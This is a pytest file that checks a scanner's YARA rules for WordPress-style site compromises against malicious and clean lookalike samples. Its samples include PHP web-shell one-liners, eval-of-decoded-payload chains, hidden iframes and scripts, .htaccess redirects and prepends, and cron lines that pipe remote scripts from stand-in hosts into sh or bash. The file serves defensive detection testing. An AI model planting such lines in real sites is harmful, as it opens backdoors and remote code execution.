"""Each YARA rule of the scan against samples built here: every bad sample matches its rule, every clean
sample (the legitimate code that looks closest) matches no rule at all. Real yara CLI, no site needed."""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path

import pytest
from carestack_agent.scan.patterns import RULES_DIR

pytestmark = pytest.mark.skipif(shutil.which("yara") is None, reason="needs Debian's yara package")

B64 = "ZWNobyAnb2snOw=="  # a harmless echo: the rules look at the chain, never at the payload

BAD = {
    "php_eval_decoded": [
        f"<?php @eval(base64_decode('{B64}'));",
        f"<?php assert ( gzinflate( base64_decode('{B64}') ) );",
        "<?php eval(str_rot13('rpub 1;'));",
        "<?php $f = create_function('', base64_decode($x));",
        "<?php preg_replace('/.*/e', $_POST['x'], '');",
    ],
    "php_exec_from_request": [
        "<?php system($_GET['cmd']);",
        '<?php echo shell_exec( @$_POST["c"] );',
        "<?php passthru(base64_decode($_REQUEST['x']));",
        "<?php $_GET['f']($_GET['a']);",
        "<?php $out = `ls {$_COOKIE['d']}`;",
    ],
    "theme_injected_script": [
        '<iframe src="http://ads.example.net/" width="0" height="0" frameborder="0"></iframe>',
        '<iframe src="//x.example.net" style="display:none"></iframe>',
        '<script src="http://198.51.100.23/s.js"></script>',
        "<script>document.write(unescape('%3Cscript%3E'))</script>",
        "<script type='text/javascript'>eval(atob('YWxlcnQoMSk='))</script>",
    ],
    "htaccess_redirect_absolute": [
        "RewriteCond %{HTTP_REFERER} google [NC]\nRewriteRule ^(.*)$ http://spam.example.net/ [R=301,L]",
        "Redirect 302 / https://elsewhere.example.org/",
        "ErrorDocument 404 http://spam.example.net/404.php",
    ],
    "htaccess_php_injection": [
        "php_value auto_prepend_file /tmp/.x.php",
        "auto_append_file = /var/tmp/a.php",
        "AddHandler application/x-httpd-php .jpg",
        "AddType application/x-httpd-php .png .gif",
    ],
    "cron_backdoor": [
        "<?php shell_exec('(crontab -l; echo \"* * * * * php /tmp/x\") | crontab -');",
        "* * * * * wget -q -O- http://203.0.113.9/k | sh",
        "*/5 * * * * curl -fsSL http://cdn.example.net/u.sh | bash",
    ],
}

CLEAN = [
    # what WordPress, themes and plugins legitimately do near each pattern
    "<?php $data = base64_decode($encoded); echo esc_html($data);",
    "<?php $value = isset($_GET['page']) ? sanitize_key($_GET['page']) : '';",
    "<?php /* Use `$_POST['nonce']` to verify the request. */",
    "<?php exec('/usr/bin/convert ' . escapeshellarg($file));",
    "<?php preg_replace('/\\s+/', ' ', $text);",
    '<iframe src="https://www.youtube.com/embed/x" width="560" height="315" frameborder="0"></iframe>',
    '<script src="https://www.example.org/wp-includes/js/jquery/jquery.min.js"></script>',
    "<script>window.wp = window.wp || {};</script>",
    "RewriteEngine On\nRewriteBase /\nRewriteRule ^index\\.php$ - [L]\nRewriteRule . /index.php [L]",
    '<FilesMatch "\\.(jpg|png)$">\nHeader set Cache-Control "max-age=3600"\n</FilesMatch>',
    "0 3 * * * root /usr/bin/php /srv/www/site/wp-cron.php",
    "# curl the page to warm the cache\n",
]


def matches(text: str, tmp_path: Path) -> set[str]:
    sample = tmp_path / "sample"
    sample.write_text(text + "\n")
    rules = [str(p) for p in sorted(RULES_DIR.glob("*.yar"))]
    out = subprocess.run(["yara", "-w", *rules, str(sample)], check=True, capture_output=True, text=True).stdout
    return {line.split()[0] for line in out.splitlines()}


def test_every_rule_file_has_samples_here() -> None:
    declared = set()
    for path in RULES_DIR.glob("*.yar"):
        declared |= {line.split()[1] for line in path.read_text().splitlines() if line.startswith("rule ")}
    assert declared == set(BAD)


@pytest.mark.parametrize(("rule", "sample"), [(r, s) for r, samples in BAD.items() for s in samples])
def test_a_bad_sample_matches_its_rule(rule: str, sample: str, tmp_path: Path) -> None:
    assert rule in matches(sample, tmp_path)


@pytest.mark.parametrize("sample", CLEAN)
def test_a_clean_sample_matches_no_rule(sample: str, tmp_path: Path) -> None:
    assert matches(sample, tmp_path) == set()
